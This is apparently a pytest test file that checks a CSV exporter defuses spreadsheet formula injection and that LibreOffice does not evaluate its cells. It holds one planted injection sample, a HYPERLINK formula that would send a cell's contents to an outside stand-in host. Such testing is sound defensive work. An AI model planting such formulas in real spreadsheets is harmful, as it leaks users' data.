"""Tables for spreadsheets: every row is whole, and no spreadsheet runs what somebody typed."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from report_samples import deletion, everything, nothing_open, rewritten

from evaluator.errors import UsageError
from evaluator.rendering.csv_text import csv_text
from evaluator.rendering.formats import render_together
from evaluator.rendering.sourced import Sourced
from evaluator.rendering.spreadsheet import harmless_cell
from evaluator.rendering.tables import COLUMNS, TABLES, table_of

EXAMPLES = Path(__file__).parents[2] / "examples"
PLANTED = '=HYPERLINK("http://example.org/"&A1,"x")'
STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1", "'  =1"),
        ("\u200b=1", "'\u200b=1"),
        ("\ufeff\u00a0=1", "'\ufeff\u00a0=1"),
        ("\tplain", "'\tplain"),
        ("\nplain", "'\nplain"),
        ("\uff1d1", "'\uff1d1"),
        ("-5", "-5"),
        ("-5.25", "-5.25"),
        ("- first", "'- first"),
        ("a=b", "a=b"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_a_cell_is_harmless(typed: str, shown: str) -> None:
    assert harmless_cell(typed) == shown


@given(st.text())
def test_no_cell_begins_like_a_formula(typed: str) -> None:
    shown = harmless_cell(typed)

    assert shown.lstrip()[:1] not in tuple("=+@") or not shown
    assert not shown.lstrip().startswith("-") or re.fullmatch(r"-\d+([.,]\d+)?", shown)


@pytest.mark.parametrize("name", TABLES)
def test_a_table_of_several_proposals_has_one_header_and_whole_rows(name) -> None:
    found = [Sourced(everything(), "a.yaml"), Sourced(nothing_open()), Sourced(deletion())]
    text = csv_text(found, name)
    rows = _rows(text)

    assert text.startswith('\ufeff"file","proposal",')
    assert text.count("\r\n") == len(rows) + 1 == text.count("\n")
    assert all(tuple(row) == COLUMNS[name] for row in rows)
    assert len(rows) == len(table_of(found, name).rows) > 0
    assert "a.yaml" in {row["file"] for row in rows}


def test_there_is_a_row_for_each_criterion_and_for_each_gap() -> None:
    evaluation = everything().evaluation
    criteria = _rows(csv_text([Sourced(everything())]))
    gaps = _rows(csv_text([Sourced(everything())], "gaps"))
    every = (evaluation.form, *evaluation.criteria)

    assert [row["criterion"] for row in criteria] == ["form", *(each.id for each in evaluation.criteria)]
    assert [row["gap"] for row in gaps] == [gap.id for each in every for gap in each.gaps]
    assert sum(int(row["gaps"]) for row in criteria) == sum(row["counted"] == "yes" for row in gaps)


@pytest.mark.parametrize("name", TABLES)
def test_nothing_planted_is_left_as_a_formula(name) -> None:
    for start in STARTS:
        planted = rewritten(everything(), lambda text, start=start: f"{start}{text}; {PLANTED}")
        for row in _rows(csv_text([Sourced(planted)], name)):
            assert [cell for cell in row.values() if cell[:1] in tuple(STARTS) or re.search(r";\s*[=+@]", cell)] == []


def test_only_what_fits_together_is_written_together() -> None:
    with pytest.raises(UsageError, match="csv, csv-gaps, sarif, sarif-gaps"):
        render_together([Sourced(everything())], "html")


def test_the_command_writes_one_table_for_all(cat2, tmp_path: Path) -> None:
    files = [EXAMPLES / "process-ready.yaml", EXAMPLES / "process-with-gaps.yaml"]

    printed = cat2("evaluate", *files, "-f", "csv", "-q").out
    written = cat2("evaluate", *files, "-f", "csv,csv-gaps,json", "-o", tmp_path, "-q")

    names = [Path(line).name for line in written.out.splitlines()]
    assert names == [*(f"{file.stem}.evaluation.json" for file in files), "findings.csv", "gaps.csv"]
    assert (tmp_path / "findings.csv").read_bytes().decode("utf-8") == printed
    assert len(_rows(printed)) == 2 * 11


def test_a_report_of_no_proposal_writes_nothing(cat2, tmp_path: Path) -> None:
    faulty = tmp_path / "faulty.yaml"
    faulty.write_text("nothing: here\n", encoding="utf-8")

    ran = cat2("evaluate", faulty, "-f", "csv", "-o", tmp_path / "out.csv")

    assert ran.code == 2
    assert not (tmp_path / "out.csv").exists()


def _has_calc() -> bool:
    office = shutil.which("soffice")
    return office is not None and (Path(office).resolve().parent / "libsclo.so").exists()


@pytest.mark.slow
@pytest.mark.skipif(not _has_calc(), reason="LibreOffice Calc is not there (Debian: libreoffice-calc-nogui)")
def test_libreoffice_runs_nothing_of_it(tmp_path: Path) -> None:
    formula = '=40+2&"-ran"'
    planted = rewritten(everything(), lambda _: formula)
    text = csv_text([Sourced(planted)])
    (tmp_path / "in.csv").write_bytes(text.encode("utf-8"))
    (tmp_path / "live.csv").write_text('"=40+2&""-ran"""\r\n', encoding="utf-8")

    for name in ("in", "live"):
        _convert(tmp_path, f"{name}.csv", "ods")
    content = {name: _content(tmp_path / f"{name}.ods") for name in ("in", "live")}

    # The cells of the file that has no apostrophe are run, or this test would see nothing.
    assert "42-ran" in content["live"]
    assert "42-ran" not in content["in"]
    assert "table:formula" not in content["in"]
    assert "40+2" in content["in"]


def _convert(folder: Path, name: str, to: str) -> None:
    # 76 is UTF-8; the last word but two has formulas evaluated, as a person may choose in the dialog.
    reading = "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
    profile = f"-env:UserInstallation=file://{folder}/profile"
    words = ["soffice", profile, "--headless", reading, "--convert-to", to, "--outdir", folder, folder / name]
    subprocess.run(words, check=True, capture_output=True)


def _content(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("content.xml").decode("utf-8")
